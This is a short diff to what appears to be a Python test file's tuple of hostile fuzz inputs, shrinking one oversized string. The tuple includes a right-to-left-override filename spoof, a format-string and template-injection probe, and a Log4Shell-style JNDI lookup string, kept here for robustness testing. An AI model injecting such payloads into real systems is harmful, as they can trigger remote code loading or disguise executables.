@@ -22,7 +22,7 @@ HOSTILE = (
     "\u202egnp.exe\u200b\u2066",
     "\x01" * 100_000,
     "\U0001f3ae" * 100_000,
-    "server_" + "0" * 1_000_000,
+    "server_" + "0" * 100_000,
     " ",
     "{{ template }} %s %n ${jndi:ldap://x}",
 )
